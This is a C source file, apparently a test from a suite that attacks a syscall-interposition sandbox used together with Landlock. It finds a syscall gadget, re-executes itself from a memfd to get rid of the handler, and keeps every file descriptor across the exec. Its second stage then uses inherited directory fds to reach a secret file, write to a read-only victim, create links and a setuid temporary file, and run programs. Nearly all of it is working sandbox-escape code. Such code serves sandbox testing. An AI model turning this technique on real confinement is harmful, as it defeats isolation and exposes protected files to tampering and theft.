/* An image without preld: this (static) program copies itself into a memfd
 * and execs that around the handler (execveat(memfd, "", AT_EMPTY_PATH)
 * through ld-preld's `syscall; ret`; Landlock does not see a memfd's exec).
 * The new image has no handler: every fd crosses the exec (preld's own
 * too: their close-on-exec flag is cleared around the handler), the
 * directory grants' fds and the connections, to use with plain syscalls. Stage 2 lists them and, from each directory fd: `..` towards the
 * secret, the read-only victim for writing, a file, a directory, a FIFO, a
 * symlink, a hard link made, an O_TMPFILE with 04755 linked by the kernel,
 * an exec of a program in the grant, fchdir. Any success prints ESCAPE. */
#include "attack.h"
#include "gadget_scan.h"
#include <sys/stat.h>
#include <sys/wait.h>

#ifndef O_TMPFILE
#define O_TMPFILE (020000000 | O_DIRECTORY)
#endif

static void made(const char *what, long d, long r) {
    printf("fd %ld: %s: %s%s\n", d, what, r >= 0 ? "done" : strerror((int)-r), r >= 0 ? " ESCAPE: done without preld" : "");
    fflush(stdout);
}

static int stage2(const char *secret, const char *ro, const char *rw) {
    printf("stage 2: running without preld\n");
    char up[4200];
    snprintf(up, sizeof up, "../../../../../../../../../../../../..%s", secret);
    int n = 0;
    for (long d = 0; d < 65536; d++) {
        long fl = raw(SYS_fcntl, d, F_GETFD, 0, 0);
        if (fl < 0) continue;
        struct stat st;
        long r = raw(SYS_fstat, d, &st, 0, 0);
        printf("fd %ld: open, mode %o\n", d, r == 0 ? st.st_mode : 0);
        if (r != 0 || !S_ISDIR(st.st_mode)) continue;
        n++;
        char label[128];
        snprintf(label, sizeof label, "fd %ld: ../secret", d);
        show(label, raw(SYS_openat, d, up, O_RDONLY, 0));
        snprintf(label, sizeof label, "fd %ld: victim O_WRONLY", d);
        try_write_ro(label, raw(SYS_openat, d, "victim", O_WRONLY, 0));
        made("create a file", d, raw(SYS_openat, d, "s2-file", O_WRONLY | O_CREAT | O_EXCL, 0644));
        made("mkdir", d, raw(SYS_mkdirat, d, "s2-dir", 0755, 0));
        made("mknod fifo", d, raw(SYS_mknodat, d, "s2-fifo", S_IFIFO | 0644, 0));
        made("symlink", d, raw(SYS_symlinkat, secret, d, "s2-link", 0));
        made("hard link of victim", d, raw6(SYS_linkat, d, (long)"victim", d, (long)"s2-hard", 0, 0));
        long t = raw(SYS_openat, d, ".", O_TMPFILE | O_RDWR, 04755);
        printf("fd %ld: O_TMPFILE 04755: %s\n", d, t >= 0 ? "made" : strerror((int)-t));
        if (t >= 0) {
            made("link of the O_TMPFILE", d, raw6(SYS_linkat, t, (long)"", d, (long)"s2-tmpfile", AT_EMPTY_PATH, 0));
            raw(SYS_close, t, 0, 0, 0);
        }
        char *av[] = { "static_cat", "/dev/null", 0 };
        pid_t p = fork();
        if (p == 0) {
            long e = raw6(SYS_execveat, d, (long)"static_cat", (long)av, 0, 0, 0);
            printf("fd %ld: execveat static_cat: %s\n", d, strerror((int)-e));
            fflush(stdout);
            _exit(99);
        }
        int ws = 0;
        waitpid(p, &ws, 0);
        if (WIFEXITED(ws) && WEXITSTATUS(ws) != 99) printf("fd %ld: execveat static_cat ran ESCAPE: exec without preld\n", d);
        made("fchdir", d, raw(SYS_fchdir, d, 0, 0, 0));
    }
    printf("stage 2: %d directory fds\n", n);
    fflush(stdout);
    return 0;
}

int main(int argc, char **argv) {
    ARGS
    if (argc > 4 && !strcmp(argv[4], "stage2")) return stage2(secret, ro, rw);
    long in = lc(open(argv[0], O_RDONLY));
    if (in < 0) { printf("open %s: %s\n", argv[0], strerror((int)-in)); return 0; }
    find_gadgets();
    if (!ncand) { printf("no gadget: nothing to try\n"); return 0; }
    unsigned long G = cands[0];
    long m = call_gadget(G, SYS_memfd_create, (long)"img", 0, 0, 0);
    if (m < 0) { printf("memfd_create: %s\n", strerror((int)-m)); return 0; }
    char buf[65536];
    long k;
    while ((k = read((int)in, buf, sizeof buf)) > 0) call_gadget(G, SYS_write, m, (long)buf, k, 0);
    /* Every fd crosses: preld's (found around the handler) too. */
    long rwd = lc(open(rw, O_RDONLY | O_DIRECTORY));
    printf("the rw grant's fd, opened the usual way: %ld\n", rwd);
    for (long d = 3; d < 65536; d++)
        if (call_gadget(G, SYS_fcntl, d, F_GETFD, 0, 0) >= 0) call_gadget(G, SYS_fcntl, d, F_SETFD, 0, 0);
    char *av[] = { argv[0], (char *)secret, (char *)ro, (char *)rw, "stage2", 0 };
    char *env[] = { 0 };
    fflush(stdout);
    /* execveat's fifth argument (flags) is r8, which call_gadget zeroes:
     * through the gadget only AT_FDCWD-relative names work, so the memfd is
     * named by /proc/self/fd (there is no /proc) or run by execveat with a
     * register set by hand. */
    long r;
    register long r10 __asm__("r10") = (long)env;
    register long r8 __asm__("r8") = AT_EMPTY_PATH;
    __asm__ volatile("call *%[g]" : "=a"(r), "+r"(r8) : [g] "r"(G), "a"(SYS_execveat), "D"(m), "S"(""), "d"(av), "r"(r10) : "rcx", "r11", "memory");
    printf("execveat memfd: %s\n", strerror((int)-r));
    return 0;
}
